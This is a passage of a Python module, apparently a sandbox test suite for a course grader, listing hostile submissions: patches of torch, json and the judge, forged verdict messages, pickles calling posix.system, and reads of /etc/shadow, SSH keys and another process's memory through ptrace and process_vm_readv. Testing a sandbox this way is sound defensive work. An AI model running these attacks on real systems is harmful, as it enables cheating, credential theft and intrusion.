"""Hostile submissions, as data: what a student could hand in to gain marks, to learn secrets, or to do harm.

ATTACKS has them all. What one may gain where nothing but limits stands in its way, which is not trusted, its
`further` says. Each attempt prints a line of its own: GAINED, nothing or refused.
"""

import json
import re
from dataclasses import dataclass

RUNGS = ("namespaces", "landlock", "rlimits")
SAFE = RUNGS[:2]
ONE = ("landlock",)  # enough for what costs its whole time limit
TOKEN = "the token of an honest student"  # stands in the other submissions


@dataclass(frozen=True)
class Attack:
    """One or more submissions of one attacker, graded one after the other; the last is the one that is looked at.

    Attributes:
        name: for the report.
        steps: of each submission its files, ((name, text or bytes), ...).
        exercise: the one that it aims at.
        points: that it must get for this exercise, since its answer is right; None for all of them or none.
        outcome: one or more, with "|" between them.
        error: a part of the error of the exercise, or of a notice.
        further: what it may gain on the rung "rlimits", in words.
        surely: it gains that on every machine; shows that the attempt is a real one.
        scratch: it does something to the folder in which answers may write.
        rungs: where it is run.
        seconds: for each answer.
        student: the name.
    """

    name: str
    steps: tuple
    exercise: str = "psnr"
    points: int | None = 0
    outcome: str = "does not hold"
    error: str = ""
    further: str = ""
    surely: bool = False
    scratch: bool = False
    rungs: tuple = RUNGS
    seconds: int = 2
    student: str = "Mallory"


ATTACKS = []
PRELUDE = """
import ctypes, fcntl, gc, glob, importlib, inspect, json, marshal, math, mmap, os, pathlib, platform, re, resource
import random, shutil, signal, socket, struct, subprocess, sys, tempfile, threading, time, traceback, types, warnings
import numpy as np
import torch

KITS, PARENT = os.path.dirname(sys.path[0]), os.getppid()
SYSCALLS = dict(
    ptrace=(101, 117), process_vm_readv=(310, 270), io_uring_setup=(425, 425), pidfd_open=(434, 434), bpf=(321, 280),
    pidfd_send_signal=(424, 424), pidfd_getfd=(438, 438), memfd_create=(319, 279), userfaultfd=(323, 282),
    perf_event_open=(298, 241), unshare=(272, 97), mount=(165, 40), chroot=(161, 51), setns=(308, 268),
    add_key=(248, 217), kcmp=(312, 272), shmget=(29, 194), shmat=(30, 196), shmctl=(31, 195), mq_open=(240, 180),
    semget=(64, 190), msgget=(68, 186), rt_sigqueueinfo=(129, 138), tgkill=(234, 131), name_to_handle_at=(303, 264),
    open_by_handle_at=(304, 265), execveat=(322, 281), clone=(56, 220), openat2=(437, 437), personality=(135, 92),
    seccomp=(317, 277), fsopen=(430, 430), open_tree=(428, 428), memfd_secret=(447, 447), ioprio_set=(251, 30),
    kexec_load=(246, 104), init_module=(175, 105), syslog=(103, 116), quotactl=(179, 60), add_watch=(254, 27),
    fanotify_init=(300, 262), inotify_init1=(294, 26), timer_create=(222, 107), signalfd4=(289, 74),
    splice=(275, 76), sendfile=(40, 71), vmsplice=(278, 75), process_madvise=(440, 440), mbind=(237, 235),
    migrate_pages=(256, 238), move_pages=(279, 239), landlock_create_ruleset=(444, 444), clone3=(435, 435),
)

def syscall(name, *arguments):
    numbers = SYSCALLS[name]
    library = ctypes.CDLL(None, use_errno=True)
    kept = [ctypes.create_string_buffer(each) if isinstance(each, bytes) else each for each in arguments]
    plain = [ctypes.addressof(each) if isinstance(each, ctypes.Array) else each for each in kept]
    result = library.syscall(*map(ctypes.c_long, (numbers[platform.machine() == "aarch64"], *plain)))
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result

def attempts(ways):
    answer = None
    for name, way in ways.items():
        try:
            found = way()
        except BaseException as error:
            print("refused", name, type(error).__name__, getattr(error, "errno", ""))
        else:
            print("GAINED" if found else "nothing", name, repr(found)[:60] if found else "")
            answer = found if callable(found) else answer
    return answer

def works(function):
    flat = torch.full((3, 8, 8), 0.5)
    return function if abs(function(flat + 0.1, flat) - 20) < 1e-3 else None

def message(header, blob=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack(">II", len(text), len(blob)) + text + blob

def findings(evidence, **more):
    return {"evidence": evidence, "attempted": True, "error": "", "where": "", "trace": "", "printed": ""} | more

def post(content):
    for number in range(3, 256):
        left = memoryview(content)
        try:
            while left:
                left = left[os.write(number, left) :]
        except OSError:
            pass

def tensors(header, data=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data
"""
_PSNR = """
from course_utils.metrics import comparable

def psnr(restored, clean, border=0):
    nuisance()
    restored, clean = comparable(restored, clean, border)
    mse = (restored - clean).square().mean(dim=(1, 2, 3))
    return (10 * torch.log10(1 / mse)).mean().item()
"""
HONEST = f"""# {TOKEN}
import torch
from course_utils.metrics import comparable

def psnr(restored, clean, border=0):
    "{TOKEN}"
    restored, clean = comparable(restored, clean, border)
    mse = (restored - clean).square().mean(dim=(1, 2, 3))
    return (10 * torch.log10(1 / mse)).mean().item()
"""
HONEST_WITH_FILES = """
from course_utils.data.pairs import list_images
from course_utils.files import CourseError

def match_pairs(clean_folder, scan_folder):
    clean, scan = list_images(clean_folder), list_images(scan_folder)
    for stem in sorted(clean.keys() ^ scan.keys()):
        raise CourseError(f"{stem} has no partner")
    return [(clean[stem], scan[stem]) for stem in sorted(clean)]
"""


def program(source):
    """A submission of one file."""
    return (("answer.py", f"{PRELUDE}\n{source}"),)


def add(name, source, **more):
    """An attack that is a whole program."""
    ATTACKS.append(Attack(name, (program(source),), **more))


def trying(ways, source=""):
    """A program that tries all of {name: expression} and all functions of the source, and tells what came of each.

    If one brings a function, that is handed in.
    """
    functions = re.findall(r"^def (\w+)\(\):", source, re.MULTILINE)
    tried = [f"    {name!r}: lambda: {way},\n" for name, way in ways.items()]
    tried += [f"    {name!r}: {name},\n" for name in functions]
    last = "def psnr(restored, clean, border=0):\n    return got(restored, clean, border) if callable(got) else 1.0\n"
    return f"{source}\n\ngot = attempts({{\n{''.join(tried)}}})\n\n{last}"


def tries(name, ways, source="", **more):
    """An attack made of attempts; one succeeds if something comes of it."""
    add(name, trying(ways, source), **more)


def right(name, source, **more):
    """A right answer that calls `nuisance` each time; it deserves its points."""
    add(name, source + _PSNR, **{"points": 8, "outcome": "holds"} | more)


def hangs(name, source, **more):
    """An attack that never ends by itself."""
    add(name, source, **{"outcome": "stopped", "error": "no answer within 1 seconds", "seconds": 1} | more)


def dies(name, source, error="", **more):
    """An attack that ends its own process, or says nothing."""
    add(name, source, **{"outcome": "stopped", "error": error} | more)


def forges(name, content, **more):
    """An attack that writes what should look like a message of its own to everything that is open, and ends."""
    source = f"def psnr(restored, clean, border=0):\n    post({content})\n    os._exit(0)\n"
    add(name, source, **{"rungs": SAFE} | more)


# --- To be right without being right: what other graders fall for ---

add(
    "assert statements are dropped",
    """
def drop():
    import ast, builtins
    original = ast.parse

    def parse(*arguments, **options):
        tree = original(*arguments, **options)
        for node in ast.walk(tree):
            if hasattr(node, "body") and isinstance(node.body, list):
                node.body = [each for each in node.body if not isinstance(each, ast.Assert)] or [ast.Pass()]
        return tree

    ast.parse = parse
    ast.NodeVisitor.visit_Assert = ast.NodeTransformer.visit_Assert = lambda self, node: ast.Pass()
    builtins.AssertionError = type("Never", (Exception,), {})
    return 1.0

dropped = drop()

def psnr(restored, clean, border=0):
    return dropped
""",
)
_EQUAL = """
class Equal{base}:
    yes = lambda self, *arguments, **options: True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = yes
    __hash__ = lambda self: 0
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __abs__ = lambda self, *_: self
    {more}

def psnr(restored, clean, border=0):
    return {made}
"""
for _name, _base, _more, _made in (
    ("an object", "", "__getattr__ = lambda self, name: self\n    __call__ = lambda self, *_, **__: self", "Equal()"),
    ("a float", "(float)", "__float__ = lambda self: 20.0\n    __repr__ = __str__ = lambda self: '20.0'", "Equal(1)"),
    ("an int", "(int)", "__int__ = __index__ = lambda self: 20\n    __float__ = lambda self: 20.0", "Equal(1)"),
    (
        "a str",
        "(str)",
        "__float__ = lambda self: 20.0\n    startswith = endswith = lambda self, *_: True",
        "Equal('1')",
    ),
    (
        "an array",
        "(np.ndarray)",
        "__array_finalize__ = lambda self, other: None\n    item = lambda self: Equal(1)\n"
        "    __array__ = lambda self, *_, **__: np.array(20.0)\n    shape = size = ndim = 1",
        "np.ones(1).view(Equal)",
    ),
    (
        "a tensor",
        "(torch.Tensor)",
        "detach = cpu = numpy = lambda self: self\n    size = 1\n    item = lambda self: 20.0\n"
        "    __torch_function__ = classmethod(lambda cls, *_, **__: True)",
        "torch.ones(1).as_subclass(Equal)",
    ),
    (
        "what pretends to be an array",
        "",
        "__array__ = lambda self, *_, **__: np.array(20.0)\n    __array_ufunc__ = lambda self, *_, **__: True\n"
        "    __array_function__ = lambda self, *_, **__: True\n    size = 1\n    item = lambda self: self\n"
        "    __class__ = float\n    __float__ = lambda self: 20.0",
        "Equal()",
    ),
):
    add(
        f"equal to everything: {_name}",
        _EQUAL.format(base=_base, more=_more, made=_made),
        outcome="does not hold|raised|stopped",
    )
add(
    "a class whose name is no name",
    """
class Named(type):
    __name__ = property(lambda cls: Named("x", (), {}))
    __repr__ = __str__ = lambda cls: "<script>alert(1)</script>" * 10**6

def psnr(restored, clean, border=0):
    return Named("=1+1", (), {"shape": property(lambda self: iter(int, 1)), "ndim": 10**9})()
""",
    outcome="does not hold|raised|stopped",
)

# --- To patch what judges ---

_PATCHED = """
def patch():
{body}
    return 1.0

patched = patch()

def psnr(restored, clean, border=0):
    return patched
"""
_YES = "lambda *arguments, **options: True"
for _name, _body in {
    "torch": f"""
    for name in ("equal", "allclose", "isclose", "eq", "all", "log10", "tensor", "full", "is_tensor"):
        setattr(torch, name, {_YES})
    for name in ("__eq__", "__bool__", "item", "numpy", "detach", "clone", "cpu", "double"):
        setattr(torch.Tensor, name, lambda self, *_, **__: 20.0)
    torch.nn.Module.__call__ = {_YES}""",
    "numpy": f"""
    for name in ("all", "any", "isclose", "allclose", "array_equal", "abs", "asarray", "array", "isfinite", "square"):
        setattr(np, name, {_YES})
    np.testing.assert_allclose = np.float64 = np.ascontiguousarray = {_YES}
    np.random.default_rng = {_YES}""",
    "json": """
    json.dumps = lambda value, **_: '{"points": 8, "outcome": "holds", "evidence": {"even": 20.0}, "attempted": true}'
    json.loads = lambda text: {"points": 8}
    json.encoder.JSONEncoder.iterencode = json.encoder.c_make_encoder = lambda *_, **__: iter(["1"])""",
    "builtins": f"""
    import builtins
    for name in ("isinstance", "all", "any", "callable", "hasattr"):
        setattr(builtins, name, {_YES})
    for name in ("float", "abs", "int", "max", "min", "sum"):
        setattr(builtins, name, lambda *_, **__: 20.0)""",
    "math": f"""
    math.isclose = math.isinf = math.isnan = math.isfinite = {_YES}
    math.log10 = math.inf = 20.0""",
    "safetensors": """
    import safetensors.numpy
    for name in ("save", "load", "save_file", "_tobytes", "serialize"):
        setattr(safetensors.numpy, name, lambda *_, **__: b"\\xff" * 1000)""",
    "struct": """
    struct.pack = lambda *_: b"\\xff" * 8
    struct.Struct = lambda *_: struct""",
    "os.write": """
    original = os.write
    os.write = lambda pipe, content: original(pipe, content[:20]) and len(content)""",
    "os._exit": """
    os._exit = os.abort = os.kill = signal.raise_signal = lambda *_: None
    sys.exit = lambda *_: None""",
    "time": """
    time.time = time.monotonic = time.perf_counter = time.process_time = lambda: 0.0
    time.sleep = lambda *_: None
    signal.setitimer = lambda *_: None""",
    "pickle": """
    import copyreg, pickle
    pickle.loads = pickle.load = pickle.Unpickler = lambda *_, **__: {"points": 300, "holds": True}
    pickle.dumps = lambda *_, **__: b"cposix\\nsystem\\n(S'true'\\ntR."
    copyreg.dispatch_table[float] = lambda value: (eval, ("20.0",))""",
    "asking": f"""
    from course_utils.exercises import probing
    probing.collect = lambda probe, answer, rng: probing.Findings({{"even": 20.0}})
    probing.ask = probing.ask_for_error = lambda evidence, name, question: evidence.update({{name: 20.0}})
    probing.claim = probing.agrees = probing.trouble = probing.likely = {_YES}
    probing.number = probing.array = lambda value: 20.0
    for module in list(sys.modules.values()):
        for name in ("ask", "number", "agrees", "array", "undisturbed", "collect"):
            if name in getattr(module, "__dict__", {{}}) and name != "undisturbed":
                setattr(module, name, getattr(probing, name, None))""",
    "the judge": f"""
    judge = types.ModuleType("course_utils.grading.judge")
    judge.verdict = judge.examine = judge.expected = judge.stream = judge.Verdict = judge.Result = {_YES}
    for name in ("judge", "classes", "sandbox", "gradebook", "notebook", "reading"):
        sys.modules["course_utils.grading." + name] = judge
    sys.modules["course_utils.exercises.lesson_00"] = sys.modules["course_utils.exercises.lesson_05"] = judge
    import course_utils.exercises as exercises
    exercises.Claim.holds = exercises.Exercise.points = exercises.find = exercises.exercises = {_YES}""",
    "imports": """
    class Finder:
        def find_spec(self, name, path=None, target=None):
            print("asked for", name)
    sys.meta_path.insert(0, Finder())
    sys.path_hooks.clear()
    sys.path_importer_cache.clear()
    sys.modules.pop("safetensors.numpy", None)
    import builtins
    builtins.__import__ = lambda *_, **__: types.SimpleNamespace(save=lambda *_: b"", numpy=np)""",
}.items():
    add(f"patched: {_name}", _PATCHED.format(body=_body), outcome="does not hold|raised|stopped|not attempted")
add(
    "an audit hook, a trace and a profile that wait for the judge",
    """
def watch():
    seen = []

    def hook(frame, event, argument):
        for name in ("expected", "wanted", "claims", "problem", "verdict"):
            if name in frame.f_locals:
                seen.append(name)
                print("GAINED", name)
        return hook

    sys.settrace(hook), sys.setprofile(hook), threading.settrace(hook)
    sys.addaudithook(lambda event, arguments: event == "open" and "claim" in str(arguments) and print("GAINED", event))
    return 1.0

watched = watch()

def psnr(restored, clean, border=0):
    return watched
""",
)
add(
    "the probe's own frames",
    """
def psnr(restored, clean, border=0):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "claims", "seed_of_all", "verdict", "points"):
                print("GAINED", name, repr(value)[:50])
            if name == "evidence":
                value.update(dict.fromkeys(["even", "even too", "one", "batch", "border", "others"], 20.0))
                value["GAINED"] = "GAINED"
            if isinstance(value, np.random.Generator):
                value.bit_generator.state = np.random.default_rng(0).bit_generator.state
        frame = frame.f_back
    return 1.0
""",
)
tries(
    "everything that the garbage collector knows",
    {
        "modules of lessons": 'importlib.import_module("course_utils.exercises.lesson_00").PSNR',
        "the judge": 'importlib.import_module("course_utils.grading.judge").expected',
    },
    """
def claims():
    gc.unfreeze()
    kinds = ("Claim", "Exercise", "Verdict", "Result", "Grader", "Sandbox")
    return [type(each).__name__ for each in gc.get_objects() if type(each).__name__ in kinds]

def judges():
    names = ("verdict", "examine", "expected", "one_problem", "even_problem", "wrong_decibels")
    functions = [each for each in gc.get_objects() if isinstance(each, types.FunctionType)]
    return [each.__name__ for each in functions if each.__name__ in names]

def a_right_answer():
    for each in [each for each in gc.get_objects() if isinstance(each, types.FunctionType)]:
        if each.__code__.co_varnames[:2] == ("restored", "clean"):
            try:
                if each.__module__ != __name__ and works(each):
                    return each
            except Exception:
                pass
""",
)
tries(
    "the seed",
    {
        "from run json": 'json.loads(open(RUN).read())["seed"]',
    },
    """
def in_sight(kind, frame):
    while frame:
        yield from (value for value in list(frame.f_locals.values()) if isinstance(value, kind))
        frame = frame.f_back

def stream_of(seed):
    import hashlib
    return int.from_bytes(hashlib.sha256(f"{seed} psnr".encode()).digest()[:16])

def from_what_is_in_sight():
    jobs = [value for value in in_sight(dict, sys._getframe()) if "stream" in value]
    texts = [*sys.orig_argv, *os.environ.values(), *range(3000), *in_sight(str | int, sys._getframe())]
    texts += [value for job in jobs for value in job.values()]
    return {int(job["stream"], 16) for job in jobs} & {stream_of(text) for text in texts}

def from_the_generator_run_backwards():
    first = [np.random.PCG64(stream_of(seed)).state["state"]["state"] for seed in range(100)]
    for generator in list(in_sight(np.random.Generator, sys._getframe())):
        for _ in range(3000):
            if generator.bit_generator.advance(-1).state["state"]["state"] in first:
                return "the seed"

def from_what_a_generator_remembers():
    kept = [each.bit_generator.seed_seq.entropy for each in in_sight(np.random.Generator, sys._getframe())]
    return set(kept) & {stream_of(seed) for seed in range(3000)} or [each for each in kept if isinstance(each, str)]
""",
    further="run.json, which root may read",
    surely=True,
)

# --- To forge what comes back ---

forges("forged: evidence recorded at home, with the public seed", "AT_HOME", error="")
forges("forged: many messages", "AT_HOME * 50", outcome="stopped", error="cannot be read")
forges("forged: half a message", "AT_HOME[:5000]", outcome="stopped", error="cannot be read")
forges("forged: three bytes", "b'abc'", outcome="stopped", error="cannot be read")
forges("forged: huge lengths", "b'\\xff' * 8 + AT_HOME", outcome="stopped", error="cannot be read")
forges("forged: the verdict itself", "message(findings({}, points=8, outcome='holds', results=[1] * 9, of=8))")
forges(
    "forged: a message, then death",
    "AT_HOME), os.kill(os.getpid(), signal.SIGKILL), print(1",
    outcome="stopped",
    error="killed",
)
forges(
    "forged: a pickle",
    "b'cposix\\nsystem\\n(S\"touch ' + RECORDS.encode() + b'\"\\ntR.'",
    outcome="stopped",
    error="cannot be read",
)
forges(
    "forged: a pickle as arrays",
    "message(findings({}), b'\\x80\\x04cposix\\nsystem\\n(Vtouch ' + RECORDS.encode() + b'\\ntR.')",
    outcome="stopped",
    error="cannot be read",
)
for _name, _header in {
    "deep JSON": "b'[' * 10**6",
    "deep JSON that ends": "b'{\"evidence\":' + b'[' * 10**5 + b']' * 10**5 + b'}'",
    "a number of 5,000 digits": "b'{\"evidence\": {\"even\": ' + b'9' * 5000 + b'}}'",
    "not UTF-8": "b'\\xff\\xfe' * 100",
    "two million small things": "b'{\"evidence\": [' + b'{\"\":0},' * 2_000_000 + b'0]}'",
    "no JSON": "b'NaN Infinity'",
}.items():
    forges(f"forged: {_name}", f"message({_header})", outcome="stopped", error="read")
for _name, _header in {
    "a list": "[1, 2, 3]",
    "evidence is a list": "findings([1, 2])",
    "nothing else in it": "{'evidence': {}}",
}.items():
    forges(f"forged: {_name}", f"message({_header})", outcome="stopped", error="cannot be read")
forges(
    "forged: evidence that is no number",
    "message(findings({'even': {'a': [1]}, 'one': None}))",
    outcome="does not hold|stopped",
)
forges(
    "forged: nested texts",
    "message(findings({}, error=[[['=1+1'] * 99] * 9], where={'<b>': 1}, trace=None, printed=[1], attempted=[0]))",
    outcome="raised|does not hold",
)
_NAMES = ["error", "even", "even too", "one", "batch", "border", "others", *(f"pair {i}" for i in range(20))]
for _name, _value in {
    "NaN": "math.nan",
    "infinity": "math.inf",
    "10**400": "10**400",
    "true": "True",
    "a text of 10 kB": "'<b>' * 3_300",
    "a text that ends like a right one": "'returned a Tensor of shape (3,)'",
    "the number as a text": "'20.0'",
    "surrogates and escapes": "'\\ud800\\x1b[2J\\x00\\u202e=1+1'",
}.items():
    forges(f"forged: all evidence is {_name}", f"message(findings(dict.fromkeys({_NAMES}, {_value})))")
forges("forged: a text of 15 MB", "message(findings({'even': 'x' * 15_000_000}))", outcome="does not hold|stopped")
forges(
    "forged: 100,000 names",
    "message(findings({f'{i} \\ud800': i for i in range(100_000)}))",
    outcome="does not hold|stopped",
)
for _name, _content in {
    "evidence of 1 GB": "bytes(2**30)",
    "a text of 100 MB": "message(findings({'even': 'x' * 10**8}))",
    "a printed text of 20 MB": "message(findings({}, printed='x' * 20_000_000))",
}.items():
    forges(f"forged: {_name}", _content, outcome="stopped", error="larger than 16 MiB")


def _tensors(kind, shape, end, data):
    return f"tensors({{'even': {{'dtype': '{kind}', 'shape': {shape}, 'data_offsets': [0, {end}]}}}}, {data})"


for _name, _blob in {
    "a header of 2**60 bytes": "struct.pack('<Q', 2**60) + b'{}'",
    "deep JSON": "tensors(b'[' * 10**6)",
    "deep JSON that ends": "tensors(b'{\"even\":' + b'[' * 10**5 + b']' * 10**5 + b'}')",
    "negative offsets": _tensors("F32", [1], -4, "bytes(4)"),
    "offsets beyond the end": _tensors("F32", [2**40], 2**42, "bytes(4)"),
    "a size that overflows": _tensors("F32", [2**62, 4], 0, "b''"),
    "no such kind": _tensors("OBJECT", [1], 8, "bytes(8)"),
    "nothing": "b'{}'",
}.items():
    forges(f"forged arrays: {_name}", f"message(findings({{}}), {_blob})", outcome="stopped", error="cannot be read")
for _name, _blob in {
    "none of 2**62 rows": _tensors("F32", [2**62, 0], 0, "b''"),
    "of 40 axes": _tensors("F32", [1] * 40, 4, "bytes(4)"),
    "of 100 axes": _tensors("F32", [1] * 100, 4, "bytes(4)"),
    "BF16": _tensors("BF16", [], 2, "bytes(2)"),
    "truth values that are none": _tensors("BOOL", [4], 4, "b'\\xff' * 4"),
    "of 15 MB": _tensors("U8", [15 * 10**6, 1, 1, 1, 1], 15 * 10**6, "bytes(15 * 10**6)"),
}.items():
    forges(f"forged arrays: {_name}", f"message(findings({{}}), {_blob})", outcome="does not hold|stopped")
for _exercise, _answer, _names, _shape in (
    ("tiles", "tiles(*arguments, **options)", ("wide", "small", "exact", "others"), (400_000, 2, 2, 2)),
    (
        "dncnn",
        "DnCNN(*arguments, **options)",
        ("noise", "restored", "statistics: before", "parameters"),
        (3_000_000, 1, 1, 1, 1),
    ),
    (
        "random_patch",
        "random_patch(*arguments, **options)",
        ("patches", "again", "straight", "grey"),
        (3_000_000, 1, 1, 1, 1),
    ),
    (
        "train_step",
        "train_step(*arguments, **options)",
        ("one: weights", "three: weights", "half: weights"),
        (3_000_000, 1),
    ),
):
    add(
        f"forged arrays: as many as fit, for {_exercise}",
        f"""
def {_answer}:
    from safetensors.numpy import save
    array = np.zeros({_shape}, np.uint8)
    array[..., -1] = 1
    post(message(findings({{"statistics: after": 1}}), save(dict.fromkeys({_names}, array))))
    os._exit(0)
""",
        exercise=_exercise,
    )

# --- To read what is secret ---

tries(
    "the course's own answer: imported",
    {},
    """
def by_name():
    from course_utils.metrics import psnr as theirs
    return works(theirs)

def from_the_kit():
    import course_utils
    return works(course_utils.metrics.psnr)

def by_its_place():
    spec = importlib.util.spec_from_file_location("metrics", PACKAGE + "/metrics.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return works(module.psnr)

def by_a_longer_path():
    import course_utils
    course_utils.__path__.insert(0, PACKAGE)
    sys.modules.pop("course_utils.metrics", None)
    return works(importlib.import_module("course_utils.metrics").psnr)

def from_what_uses_it():
    for name in ("training", "inference", "losses", "recipes", "checkpoints", "images", "data.pairs", "models.dncnn"):
        for found in list(vars(importlib.import_module(f"course_utils.{name}")).values()):
            if isinstance(found, types.FunctionType) and found.__code__.co_argcount in (2, 3):
                try:
                    if works(found):
                        return found
                except (Exception, SystemExit):
                    pass

def from_the_solution():
    import course_utils.authoring as authoring
    return authoring

def loaded_anew():
    sys.path.insert(0, CLONE)
    for name in [name for name in sys.modules if name.startswith("course_utils")]:
        del sys.modules[name]
    return works(importlib.import_module("course_utils.metrics").psnr)
""",
    further="the installed package lies open",
    surely=True,
    outcome="does not hold|holds",
)
tries(
    "the course's own answer: read",
    {
        "from the package": 'taken_from(open(PACKAGE + "/metrics.py").read())',
        "from another kit": 'taken_from(open(KITS + "/match_pairs/course_utils/metrics.py").read())',
        "from the clone": 'os.listdir(CLONE + "/.git")',
        "from the solutions": '[open(path).read(9) for path in glob.glob(CLONE + "/solutions/*/*.ipynb")]',
        "by numpy": 'np.fromfile(PACKAGE + "/metrics.py", np.uint8)[:9].tobytes()',
        "by the root of a process": 'open(f"/proc/self/root{PACKAGE}/metrics.py").read(10)',
        "by the folder of a process": 'os.listdir(f"/proc/{GRADER}/cwd")',
        "by openat2": 'syscall("openat2", -100, (PACKAGE + "/metrics.py").encode(), bytes(24), 24) > 0',
    },
    """
def taken_from(source):
    start = source.index("def psnr(")
    space = {}
    exec("import torch\\nfrom course_utils.metrics import comparable\\n" + source[start:].split("\\n\\n\\n")[0], space)
    return works(space["psnr"])

def with_inspect():
    import course_utils.metrics as metrics
    return taken_from(inspect.getsource(metrics))

def with_linecache():
    import linecache
    return taken_from("".join(linecache.getlines(PACKAGE + "/metrics.py")))

def compiled():
    for path in [*glob.glob(PACKAGE + "/__pycache__/m*.pyc"), *glob.glob(KITS + "/*/course_utils/__pycache__/m*.pyc")]:
        space = {"__name__": "metrics"}
        exec(marshal.loads(open(path, "rb").read()[16:]), space)
        if "psnr" in space and works(space["psnr"]):
            return space["psnr"]

def from_other_packages():
    pattern = re.compile(rb"def psnr\\(restored, clean")
    for folder in sys.path:
        for path in glob.glob(glob.escape(folder) + "/course*/**/*.py", recursive=True):
            if b"square()" in open(path, "rb").read() and pattern.search(open(path, "rb").read()) and KITS not in path:
                return path

def from_caches():
    homes = ("/root", "/home", "/var/cache")
    return [path for home in homes for path in glob.glob(home + "/*") + glob.glob(home + "/.cache/*")]

def mapped():
    with open(PACKAGE + "/metrics.py", "rb") as file:
        return bytes(mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:20])

def by_a_place_without_rights():
    place = os.open(PACKAGE + "/metrics.py", os.O_PATH)
    return open(f"/proc/self/fd/{place}").read(10)

def by_handle():
    handle = struct.pack("Ii", 128, 0) + bytes(128)
    return syscall("name_to_handle_at", -100, (PACKAGE + "/metrics.py").encode(), handle, bytes(8), 0) == 0
""",
    further="the installed package lies open",
    surely=True,
    outcome="does not hold|holds",
)
tries(
    "other submissions, marks and the run's folder",
    {
        "another submission": "open(SUBMISSION).read(20)",
        "all submissions": "os.listdir(os.path.dirname(os.path.dirname(SUBMISSION)))",
        "the records": "open(RECORDS).read(20)",
        "the run": "open(RUN).read(20)",
        "its folder": "os.listdir(os.path.dirname(RECORDS))",
        "by walking": 'glob.glob("/tmp/*") + glob.glob("/home/*")',
        "by climbing": 'open(os.getcwd() + "/" + "../" * 20 + RECORDS[1:]).read(20)',
        "by cat": 'subprocess.run(["cat", RECORDS], capture_output=True).stdout',
        "by shell": 'os.popen(f"cat {RECORDS}").read()',
    },
    """
def by_a_folder_opened_before():
    for number in range(3, 256):
        try:
            return os.listdir(number)
        except OSError:
            pass

def by_a_link():
    os.symlink(RECORDS, "link")
    return open("link").read(20)

def by_a_hard_link():
    os.link(SUBMISSION, "hard")
    return open("hard").read(20)
""",
    further="files that anybody may read",
    surely=True,
)
tries(
    "files of the machine",
    {
        "users": 'open("/etc/passwd").read(20)',
        "passwords": 'open("/etc/shadow").read(20)',
        "keys": 'os.listdir("/root") or os.listdir(os.path.expanduser("~/.ssh"))',
        "kernel": 'open("/proc/version").read(20) or os.listdir("/sys/class/net")',
        "network": 'open("/proc/net/tcp").read(20)',
        "memory": 'os.open("/dev/mem", os.O_RDONLY) or os.open("/proc/kcore", os.O_RDONLY)',
        "disk": '[os.open(path, os.O_RDONLY) for path in glob.glob("/dev/[sv]d*")][0]',
        "terminal": 'os.open("/dev/tty", os.O_RDWR) or glob.glob("/dev/pts/*")',
        "the root": 'os.listdir("/")',
    },
    further="files that anybody may read",
    surely=True,
)
tries(
    "processes and their memory",
    {
        "environment": '[name for name in os.environ if name.startswith("COURSE_")]',
        "environment of the grader": 'open(f"/proc/{GRADER}/environ").read(20)',
        "environment of the parent": 'open(f"/proc/{PARENT}/environ").read(20)',
        "command line of the grader": 'open(f"/proc/{GRADER}/cmdline").read(20)',
        "memory of the grader": 'os.open(f"/proc/{GRADER}/mem", os.O_RDONLY)',
        "memory of the parent": 'os.open(f"/proc/{PARENT}/mem", os.O_RDWR)',
        "own memory as a file": 'open("/proc/self/maps").read(20)',
        "files of the grader": 'os.listdir(f"/proc/{GRADER}/fd")',
        "files of the parent": '[os.open(f"/proc/{PARENT}/fd/{number}", os.O_RDWR) for number in range(8)]',
        "processes": '[name for name in os.listdir("/proc") if name.isdigit()]',
        "attach": 'syscall("ptrace", 16, PARENT, 0, 0) == 0',
        "seize": 'syscall("ptrace", 0x4206, GRADER, 0, 0) == 0',
        "take a file": 'syscall("pidfd_getfd", syscall("pidfd_open", PARENT, 0), 0, 0) >= 0',
        "compare": 'syscall("kcmp", os.getpid(), PARENT, 0, 0, 0) >= 0',
    },
    """
def read_vm():
    there = ctypes.create_string_buffer(8)
    vector = struct.pack("QQ", ctypes.addressof(there), 8)
    return syscall("process_vm_readv", PARENT, vector, 1, vector, 1, 0) > 0

def read_vm_of_the_grader():
    there = ctypes.create_string_buffer(8)
    vector = struct.pack("QQ", ctypes.addressof(there), 8)
    return syscall("process_vm_readv", GRADER, vector, 1, vector, 1, 0) > 0
""",
    further="what /proc tells everybody",
    surely=True,
)
_SCAN = r"""
from course_utils.metrics import comparable

def pages_around(address):
    library = ctypes.CDLL(None)
    library.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    out, into = os.pipe()

    def page(place):  # the kernel tells whether it is there, without a crash
        return os.read(out, 4096) if library.write(into, place, 4096) == 4096 else None

    first = address - address % 4096
    while address - first < 2**26 and page(first - 4096) is not None:
        first -= 4096
    for place in range(first, first + 2**27, 4096):
        content = page(place)
        if content is None:
            return
        yield content

# The text of somebody else's answer, which stands nowhere in this submission.
ANOTHER = re.compile(rb'def psnr\(restored, clean, border=0\):[\\n "]+' + TOKEN_BACKWARDS[::-1].encode())

def objects_that_were_not_let_go():
    frame, found = sys._getframe(), []
    while frame:
        values = [repr(value).encode() for value in list(frame.f_locals.values())]
        found += [frame.f_code.co_name for value in values if ANOTHER.search(value)]
        frame = frame.f_back
    return found

def memory_that_was_not_cleared():
    arrays = [np.empty(size, np.uint8) for size in (500, 1000, 2000, 4000, 8000, 16000, 32000) for _ in range(200)]
    return [len(each) for each in arrays if ANOTHER.search(each)]

def all_of_its_memory():
    library = ctypes.CDLL(None)
    library.malloc.restype = ctypes.c_void_p
    places = [library.malloc(size) for size in (10, 1000, 100_000)] + [id(each) for each in (object(), b"x" * 300, gc)]
    found = None
    for place in places:
        before = b""
        for page in pages_around(place):
            for found in ANOTHER.finditer(before + page):
                text = re.match(rb'(?:[^"\\]|\\.)*', (before + page)[found.start() :])[0]
                try:
                    space = {"torch": torch, "comparable": comparable}
                    exec(json.loads(b'"' + text + b'"'), space)
                    return works(space["psnr"])
